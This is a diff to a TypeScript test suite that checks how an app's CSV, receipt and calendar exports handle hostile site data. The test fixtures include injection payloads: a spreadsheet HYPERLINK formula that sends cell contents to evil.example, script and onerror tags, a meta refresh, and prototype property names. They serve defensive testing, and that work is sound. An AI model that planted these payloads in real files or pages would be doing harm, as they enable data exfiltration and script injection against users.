@@ -52,10 +52,12 @@ describe('exports of a hostile site', () => {
     await handlers['export:orders-csv']({ siteId: 'hostile', language: 'en' });
     const rows = readCsv(files[0]!.body);
     for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
-    expect(rows.flat()).toContain('\'=HYPERLINK("https://evil.example/?"&A1,"Click")');
+    // The currency is read as at most 16 characters of text (common/site-values.ts); what is left is still guarded.
+    expect(rows.flat()).toContain('\'=HYPERLINK("http…');
+    expect(rows.flat()).toContain('\'@SUM(1+1)');
   });
 
-  it('unknown enum values, `constructor` and `toString` among them, are written as the site sent them; nothing throws', async () => {
+  it('unknown enum values, `constructor` and `toString` among them, are written as unknown; nothing throws', async () => {
     const { db, handlers, files } = await syncedHostile((nodes) => {
       nodes[0]!.paymentType = 'constructor';
       nodes[1]!.paymentState = 'toString';
@@ -65,15 +67,17 @@ describe('exports of a hostile site', () => {
     });
     await handlers['export:orders-csv']({ siteId: 'hostile', language: 'zh-TW' });
     const cells = readCsv(files[0]!.body).flat();
-    expect(cells).toContain('constructor');
-    expect(cells).toContain('bitcoin');
+    // The view models read an enum the app does not know as 'unknown' (common/site-values.ts knownOr), never by a
+    // lookup that could reach Object.prototype; the sheet says so in its language.
+    expect(cells).toContain('不明');
+    expect(cells).not.toContain('constructor');
     expect(cells.join('\n')).not.toMatch(/function|\[native code\]|undefined/);
     // The receipt of each odd order is made too.
     for (const order of getOrdersPage(db, 'hostile', NOW).items.slice(0, 6)) {
       await handlers['export:receipt']({ siteId: 'hostile', tradeNo: order.tradeNo, language: 'en' });
     }
     const receipts = files.filter((f) => f.kind === 'receipt').map((f) => f.body).join('\n');
-    expect(receipts).toContain('bitcoin');
+    expect(receipts).toContain('Unknown');
     expect(receipts).not.toMatch(/function Object|\[native code\]/);
   });
 
@@ -108,14 +112,17 @@ describe('exports of a hostile site', () => {
       nodes[0]!.lineitems[0]!.title = { html: '<script>alert(1)</script>' };
       nodes[0]!.lineitems[0]!.itemType = '<img src=x onerror=alert(1)>';
     });
-    const tradeNo = getOrdersPage(db, 'hostile', NOW).items.find((o) => o.payments.some((p) => p.lineItems.some((li) => typeof li.quantity === 'string')))!.tradeNo;
-    await handlers['export:receipt']({ siteId: 'hostile', tradeNo, language: 'en' });
-    const receipt = files.at(-1)!;
-    for (const html of [receipt.body, receipt.printView!]) {
-      expect(html).not.toMatch(/<meta http-equiv="refresh"/i);
-      expect(html).not.toMatch(/<script>alert/);
-      expect(html).not.toMatch(/<img/);
-      expect(html).toContain('&lt;meta http-equiv=&quot;refresh&quot;');
+    // The quantity is read as a number (common/site-values.ts siteNumber) and the title as text; whichever order holds
+    // the odd line item, no receipt carries the site's markup as markup.
+    for (const { tradeNo } of getOrdersPage(db, 'hostile', NOW).items.slice(0, 6)) {
+      await handlers['export:receipt']({ siteId: 'hostile', tradeNo, language: 'en' });
+      const receipt = files.at(-1)!;
+      for (const html of [receipt.body, receipt.printView!]) {
+        expect(html).not.toMatch(/<meta http-equiv="refresh"/i);
+        expect(html).not.toMatch(/<script>alert/);
+        expect(html).not.toMatch(/<img/);
+        expect(html).toContain(tradeNo);
+      }
     }
   });
 
@@ -132,7 +139,8 @@ describe('exports of a hostile site', () => {
     await handlers['calendar:course-access-end']({ siteId: 'hostile', courseId: courses[0]!, language: 'en' });
     const ics = files.at(-1)!.body;
     expect(ics).not.toMatch(/[\u2028\u2029\u0085\u0086]/);
-    expect(ics).toContain('Line\\ntwo\\nthree\\nfour');
+    // A title is one line: the site's line separators are read as spaces (common/site-values.ts siteText).
+    expect(ics).toContain('Line two three four');
     const odd = await handlers['calendar:course-access-end']({ siteId: 'hostile', courseId: courses[1]!, language: 'en' }).then(
       () => null,
       (e: unknown) => e,
